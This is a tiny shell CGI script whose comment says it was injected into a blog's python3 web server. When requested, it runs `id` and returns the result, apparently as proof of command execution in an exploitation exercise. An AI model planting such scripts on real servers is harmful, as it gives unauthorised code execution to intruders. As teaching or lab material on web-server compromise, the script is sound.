#!/bin/sh
# An injected CGI script: a shell run by the blog's python3 web server.
echo "Content-Type: text/plain"
echo
id
